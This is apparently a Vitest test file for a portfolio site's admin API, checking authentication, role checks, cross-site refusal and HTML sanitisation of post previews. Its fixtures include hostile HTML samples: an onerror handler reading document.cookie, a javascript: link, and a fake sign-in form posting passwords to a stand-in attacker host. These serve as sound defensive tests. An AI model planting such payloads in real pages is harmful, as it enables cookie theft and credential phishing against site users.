/**
 * Every /api/admin/* endpoint file through the real request pipeline, with sessions from the real
 * sign-in endpoint and Astro's real cookies: 401 without a session, 403 for a signed-in user
 * without the role (also one who wrote 'admin' into their own metadata), 403 for a cross-site
 * state-changing request, and the admin getting through (an upload end to end included).
 */
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import type { APIContext, APIRoute } from "astro";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as collectionRoute from "../../src/pages/api/admin/[resource]";
import * as itemRoute from "../../src/pages/api/admin/[resource]/[id]";
import * as actionRoute from "../../src/pages/api/admin/[resource]/[id]/[action]";
import * as analyticsRoute from "../../src/pages/api/admin/analytics";
import * as documentsKindRoute from "../../src/pages/api/admin/documents/[kind]";
import * as documentRoute from "../../src/pages/api/admin/documents/[kind]/[id]";
import * as activateRoute from "../../src/pages/api/admin/documents/[kind]/[id]/activate";
import * as overviewRoute from "../../src/pages/api/admin/overview";
import * as previewPostRoute from "../../src/pages/api/admin/preview/post";
import * as siteArchiveRoute from "../../src/pages/api/admin/site-archive";
import { sanitizePostHtml } from "../../src/server/content/sanitize-html";
import * as uploadsRoute from "../../src/pages/api/admin/uploads";
import * as uploadRoute from "../../src/pages/api/admin/uploads/[token]";
import { authDeps, type AuthDeps } from "../../src/server/auth/auth-deps";
import { signIn } from "../../src/server/auth/handlers";
import { createUser, grantAdmin } from "../../src/server/auth/users";
import type { ServerContext } from "../../src/server/context";
import { projectPath } from "../../src/server/paths";
import { AuthClient, bodyOf, newUser } from "../support/auth";
import { throughPipeline } from "../support/pipeline";
import { closeEmbeddedContext, useEmbeddedContext } from "../support/embedded";

let server: ServerContext;
let deps: AuthDeps;
const accounts = {
  owner: { email: "", password: "Owner-password-123!" },
  visitor: { email: "", password: "Visitor-password-123!" },
  sneaky: { email: "", password: "Sneaky-password-123!" },
};
const freshEmail = (label: string) => `${label}-${randomBytes(4).toString("hex")}@example.com`;
const SOME_ID = "00000000-0000-4000-8000-000000000001";

beforeAll(async () => {
  server = await useEmbeddedContext({ seed: false });
  deps = authDeps(server);
  for (const [label, account] of Object.entries(accounts)) account.email = freshEmail(label);
  const [ownerUser, visitorUser, sneakyUser] = await Promise.all([
    newUser(accounts.owner),
    newUser(accounts.visitor),
    newUser(accounts.sneaky),
  ]);
  await server.db.asOwner(async (sql) => {
    const owner = await createUser(sql, ownerUser);
    await grantAdmin(sql, owner.id);
    await createUser(sql, visitorUser);
    await createUser(sql, sneakyUser);
    await sql.query(
      `update auth.users set raw_app_meta_data = raw_app_meta_data || '{"role":"admin"}',
              raw_user_meta_data = '{"role":"admin","is_admin":true}' where email = $1`,
      [accounts.sneaky.email],
    );
  });
});
afterAll(() => closeEmbeddedContext());

/** One sign-in per account for the whole file (a password check costs ~1 s by design). */
const sessions = new Map<string, Promise<AuthClient>>();

/** A client of its own, carrying the account's session cookies. */
async function signedIn(account: { email: string; password: string }): Promise<AuthClient> {
  if (!sessions.has(account.email)) {
    sessions.set(
      account.email,
      (async () => {
        const session = new AuthClient(deps);
        const { response } = await session.call(signIn, "/api/auth/signin", { body: account });
        expect(response.status).toBe(200);
        return session;
      })(),
    );
  }
  const client = new AuthClient(deps);
  for (const [name, cookie] of (await sessions.get(account.email)!).jar) client.jar.set(name, cookie);
  return client;
}

interface Call {
  method: string;
  body?: unknown;
  raw?: BodyInit;
  headers?: Record<string, string>;
  origin?: string | null;
}

/** Calls an endpoint file's method handler the way Astro does: request, cookies, params, address, middleware. */
async function callRoute(
  client: AuthClient,
  route: Record<string, unknown>,
  path: string,
  params: Record<string, string>,
  call: Call,
): Promise<Response> {
  const { context } = client.context(path, {
    method: call.method,
    body: call.body,
    raw: call.raw as string | undefined,
    headers: call.headers,
    origin: call.origin,
  });
  const handler = route[call.method] as APIRoute;
  const apiContext = {
    request: context.request,
    cookies: (context as unknown as { cookies: APIContext["cookies"] }).cookies,
    params,
    url: new URL(context.request.url),
    get clientAddress() {
      return client.address;
    },
  } as unknown as APIContext;
  return throughPipeline(handler, apiContext);
}

/** Every endpoint of docs/admin-api.md's Admin table. */
const ENDPOINTS: [string, Record<string, unknown>, string, string, Record<string, string>][] = [
  ["GET", overviewRoute, "/api/admin/overview", "overview", {}],
  [
    "POST",
    actionRoute,
    `/api/admin/messages/${SOME_ID}/read`,
    "read",
    { resource: "messages", action: "read", id: SOME_ID },
  ],
  ["GET", analyticsRoute, "/api/admin/analytics?days=30", "analytics", {}],
  ["GET", collectionRoute, "/api/admin/projects", "projects", { resource: "projects" }],
  ["POST", collectionRoute, "/api/admin/projects", "projects", { resource: "projects" }],
  ["PUT", itemRoute, `/api/admin/projects/${SOME_ID}`, "project", { resource: "projects", id: SOME_ID }],
  ["DELETE", itemRoute, `/api/admin/projects/${SOME_ID}`, "project", { resource: "projects", id: SOME_ID }],
  ["GET", collectionRoute, "/api/admin/posts", "posts", { resource: "posts" }],
  ["POST", collectionRoute, "/api/admin/posts", "posts", { resource: "posts" }],
  ["POST", previewPostRoute, "/api/admin/preview/post", "preview", {}],
  ["PUT", itemRoute, `/api/admin/posts/${SOME_ID}`, "post", { resource: "posts", id: SOME_ID }],
  ["DELETE", itemRoute, `/api/admin/posts/${SOME_ID}`, "post", { resource: "posts", id: SOME_ID }],
  ["GET", collectionRoute, "/api/admin/experiences", "experiences", { resource: "experiences" }],
  ["POST", collectionRoute, "/api/admin/experiences", "experiences", { resource: "experiences" }],
  ["PUT", itemRoute, `/api/admin/experiences/${SOME_ID}`, "experience", { resource: "experiences", id: SOME_ID }],
  ["DELETE", itemRoute, `/api/admin/experiences/${SOME_ID}`, "experience", { resource: "experiences", id: SOME_ID }],
  ["POST", itemRoute, "/api/admin/projects/reorder", "reorder", { resource: "projects", id: "reorder" }],
  ["POST", itemRoute, "/api/admin/experiences/reorder", "reorder", { resource: "experiences", id: "reorder" }],
  ["GET", collectionRoute, "/api/admin/skills", "skills", { resource: "skills" }],
  ["POST", collectionRoute, "/api/admin/skills", "skills", { resource: "skills" }],
  ["DELETE", itemRoute, `/api/admin/skills/${SOME_ID}`, "skill", { resource: "skills", id: SOME_ID }],
  ["GET", collectionRoute, "/api/admin/guestbook", "guestbook", { resource: "guestbook" }],
  [
    "POST",
    actionRoute,
    `/api/admin/guestbook/${SOME_ID}/approve`,
    "approve",
    { resource: "guestbook", action: "approve", id: SOME_ID },
  ],
  [
    "POST",
    actionRoute,
    `/api/admin/guestbook/${SOME_ID}/reject`,
    "reject",
    { resource: "guestbook", action: "reject", id: SOME_ID },
  ],
  ["DELETE", itemRoute, `/api/admin/guestbook/${SOME_ID}`, "guestbook message", { resource: "guestbook", id: SOME_ID }],
  ["GET", documentsKindRoute, "/api/admin/documents/resume", "documents", { kind: "resume" }],
  ["POST", documentsKindRoute, "/api/admin/documents/portfolio", "documents", { kind: "portfolio" }],
  [
    "POST",
    activateRoute,
    `/api/admin/documents/resume/${SOME_ID}/activate`,
    "activate",
    { kind: "resume", id: SOME_ID },
  ],
  ["DELETE", documentRoute, `/api/admin/documents/resume/${SOME_ID}`, "document", { kind: "resume", id: SOME_ID }],
  ["POST", uploadsRoute, "/api/admin/uploads", "uploads", {}],
  ["PUT", uploadRoute, "/api/admin/uploads/some.token", "upload", { token: "some.token" }],
  ["GET", collectionRoute, "/api/admin/project-files", "project files", { resource: "project-files" }],
  ["POST", collectionRoute, "/api/admin/project-files", "project files", { resource: "project-files" }],
  [
    "DELETE",
    itemRoute,
    `/api/admin/project-files/${SOME_ID}`,
    "project file",
    { resource: "project-files", id: SOME_ID },
  ],
  // Every row and file of the site, the contact messages' addresses among them.
  ["GET", siteArchiveRoute, "/api/admin/site-archive", "site archive", {}],
  ["POST", siteArchiveRoute, "/api/admin/site-archive", "site archive", {}],
];

const bodyFor = (method: string) => (method === "POST" || method === "PUT" ? {} : undefined);

describe("every admin endpoint", () => {
  it.each(ENDPOINTS)("%s %s answers 401 without a session", async (method, route, path, _label, params) => {
    const response = await callRoute(new AuthClient(deps), route, path, params, { method, body: bodyFor(method) });
    expect(response.status).toBe(401);
    expect(await bodyOf(response)).toEqual({ error: "Not signed in" });
  });

  it.each(ENDPOINTS)(
    "%s %s answers 403 for a signed-in user without the role",
    async (method, route, path, _l, params) => {
      for (const account of [accounts.visitor, accounts.sneaky]) {
        const client = await signedIn(account);
        const response = await callRoute(client, route, path, params, { method, body: bodyFor(method) });
        expect(response.status).toBe(403);
        expect(await bodyOf(response)).toEqual({
          error: "You don't have admin privileges. Contact the system administrator.",
        });
      }
    },
  );

  it.each(ENDPOINTS.filter(([method]) => method !== "GET"))(
    "%s %s refuses a cross-site request, even from the admin",
    async (method, route, path, _label, params) => {
      const client = await signedIn(accounts.owner);
      for (const origin of ["https://evil.example", null]) {
        const response = await callRoute(client, route, path, params, { method, body: bodyFor(method), origin });
        expect(response.status).toBe(403);
        expect(await bodyOf(response)).toEqual({ error: "Cross-site request refused" });
      }
    },
  );
});

describe("the admin through the routes", () => {
  it("reads the dashboard and creates, edits (stale refused) and deletes a project", async () => {
    const client = await signedIn(accounts.owner);
    const overview = await callRoute(client, overviewRoute, "/api/admin/overview", {}, { method: "GET" });
    expect(overview.status).toBe(200);
    expect((await bodyOf(overview)).email).toBe(accounts.owner.email);

    const input = {
      slug: "route-project",
      title: "Route project",
      category: "Robotics",
      image: "https://cdn.example.com/a.webp",
      image_alt: "A robot arm on a workbench",
      overview: "An overview text.",
      role: "Lead",
      challenge: "c",
      approach: "a",
      outcome: "o",
    };
    const created = await callRoute(
      client,
      collectionRoute,
      "/api/admin/projects",
      { resource: "projects" },
      { method: "POST", body: input },
    );
    expect(created.status).toBe(201);
    const project = (await bodyOf(created)).project as { id: string; updated_at: string };
    const path = `/api/admin/projects/${project.id}`;
    const edit = (title: string) =>
      callRoute(
        client,
        itemRoute,
        path,
        { resource: "projects", id: project.id },
        {
          method: "PUT",
          body: { ...input, title, expected_updated_at: project.updated_at },
        },
      );
    expect((await edit("First")).status).toBe(200);
    const stale = await edit("Stale");
    expect(stale.status).toBe(409);
    expect(await bodyOf(stale)).toEqual({
      error:
        "This item was changed by someone else since you opened it. Reload to get the latest version, then make your changes again.",
    });
    const deleted = await callRoute(
      client,
      itemRoute,
      path,
      { resource: "projects", id: project.id },
      { method: "DELETE" },
    );
    expect(deleted.status).toBe(204);
  });

  it("uploads a resume end to end: target, PUT of the bytes, record, activate", async () => {
    const client = await signedIn(accounts.owner);
    const pdf = readFileSync(projectPath("supabase/seed/media/demo/resume.pdf"));
    const targetResponse = await callRoute(
      client,
      uploadsRoute,
      "/api/admin/uploads",
      {},
      {
        method: "POST",
        body: { purpose: "resume", file_name: "cv.pdf", file_size: pdf.byteLength, mime_type: "application/pdf" },
      },
    );
    expect(targetResponse.status).toBe(200);
    const target = (await bodyOf(targetResponse)) as {
      uploadUrl: string;
      headers: Record<string, string>;
      storagePath: string;
    };
    const token = target.uploadUrl.slice("/api/admin/uploads/".length);
    const put = await callRoute(
      client,
      uploadRoute,
      target.uploadUrl,
      { token },
      {
        method: "PUT",
        raw: new Uint8Array(pdf),
        headers: target.headers,
      },
    );
    expect(put.status).toBe(200);

    const recorded = await callRoute(
      client,
      documentsKindRoute,
      "/api/admin/documents/resume",
      { kind: "resume" },
      {
        method: "POST",
        body: { storagePath: target.storagePath, file_name: "cv.pdf" },
      },
    );
    expect(recorded.status).toBe(201);
    const version = (await bodyOf(recorded)).version as { id: string };
    const activated = await callRoute(
      client,
      activateRoute,
      `/api/admin/documents/resume/${version.id}/activate`,
      { kind: "resume", id: version.id },
      { method: "POST", body: {} },
    );
    expect(activated.status).toBe(200);
    expect(((await bodyOf(activated)).version as { is_active: boolean }).is_active).toBe(true);
  });

  it("answers 404 with the contract's body for an unknown id", async () => {
    const client = await signedIn(accounts.owner);
    const response = await callRoute(
      client,
      itemRoute,
      `/api/admin/projects/${SOME_ID}`,
      { resource: "projects", id: SOME_ID },
      {
        method: "DELETE",
      },
    );
    expect(response.status).toBe(404);
    expect(await bodyOf(response)).toEqual({ error: "Item not found" });
  });

  it("answers 404 for a resource, method or action that does not exist", async () => {
    const client = await signedIn(accounts.owner);
    const calls: [Record<string, unknown>, string, Record<string, string>, string][] = [
      [collectionRoute, "/api/admin/constructor", { resource: "constructor" }, "GET"],
      [collectionRoute, "/api/admin/guestbook", { resource: "guestbook" }, "POST"],
      [itemRoute, `/api/admin/skills/${SOME_ID}`, { resource: "skills", id: SOME_ID }, "PUT"],
      [
        actionRoute,
        `/api/admin/guestbook/${SOME_ID}/toString`,
        { resource: "guestbook", id: SOME_ID, action: "toString" },
        "POST",
      ],
      [
        actionRoute,
        `/api/admin/projects/${SOME_ID}/approve`,
        { resource: "projects", id: SOME_ID, action: "approve" },
        "POST",
      ],
    ];
    for (const [route, path, params, method] of calls) {
      const response = await callRoute(client, route, path, params, { method, body: bodyFor(method) });
      expect(response.status, `${method} ${path}`).toBe(404);
    }
  });
});

/** What a post written outside the admin put into the owner's admin page. */
const HOSTILE = {
  "an image with an onerror handler": '<p>Before</p><img src="/x.png" alt="x" onerror="alert(document.cookie)">',
  "a javascript: link": '<p><a href="javascript:alert(1)">Read more</a></p>',
  "a form posting elsewhere":
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>',
  "a live style element": "<style>body { display: none } .admin * { color: red }</style><p>Styled</p>",
};

/**
 * The admin's 'Preview' of a post gets the post's HTML back sanitised by the public pages' own
 * policy, so that HTML written outside the admin (SQL, a table editor) never runs in the owner's
 * admin page. Its access rules are the ENDPOINTS table's.
 */
describe("POST /api/admin/preview/post", () => {
  const preview = (client: AuthClient, call: Omit<Call, "method">) =>
    callRoute(client, previewPostRoute, "/api/admin/preview/post", {}, { method: "POST", ...call });

  it.each(Object.entries(HOSTILE))("answers %s sanitised by the public pages' policy", async (_name, html) => {
    const response = await preview(await signedIn(accounts.owner), { body: { html } });
    expect(response.status).toBe(200);
    expect(response.headers.get("cache-control")).toBe("no-store");
    const answer = await bodyOf(response);
    expect(answer).toEqual({ html: sanitizePostHtml(html) });
    const clean = answer.html as string;
    expect(clean).not.toMatch(/onerror/i);
    expect(clean).not.toMatch(/javascript:/i);
    expect(clean).not.toMatch(/<form|<input|<button/i);
    expect(clean).not.toMatch(/<style|display: none/i);
  });

  it("keeps what a post may hold", async () => {
    const html =
      '<h2>Gearbox</h2><p>It <strong>works</strong>, <a href="https://example.com">see</a>.</p><img src="/storage/v1/object/public/documents/images/1-a.png" alt="A gear" width="640" height="480">';
    const response = await preview(await signedIn(accounts.owner), { body: { html } });
    expect(response.status).toBe(200);
    expect(await bodyOf(response)).toEqual({
      html: '<h2>Gearbox</h2><p>It <strong>works</strong>, <a href="https://example.com" rel="noopener noreferrer">see</a>.</p><img src="/storage/v1/object/public/documents/images/1-a.png" alt="A gear" width="640" height="480" loading="lazy" decoding="async" />',
    });
  });

  it("limits the body like the other admin endpoints: 413 past 512 KB, 415 unless JSON, 400 without html", async () => {
    const client = await signedIn(accounts.owner);
    const large = await preview(client, { body: { html: `<p>${"a".repeat(600 * 1024)}</p>` } });
    expect(large.status).toBe(413);
    const text = await preview(client, { raw: "html=<p>x</p>", headers: { "content-type": "text/plain" } });
    expect(text.status).toBe(415);
    const missing = await preview(client, { body: {} });
    expect(missing.status).toBe(400);
    const tooLong = await preview(client, { body: { html: "a".repeat(50_001) } });
    expect(tooLong.status).toBe(400);
    expect(await bodyOf(tooLong)).toEqual({ error: "Content is too long" });
  });
});
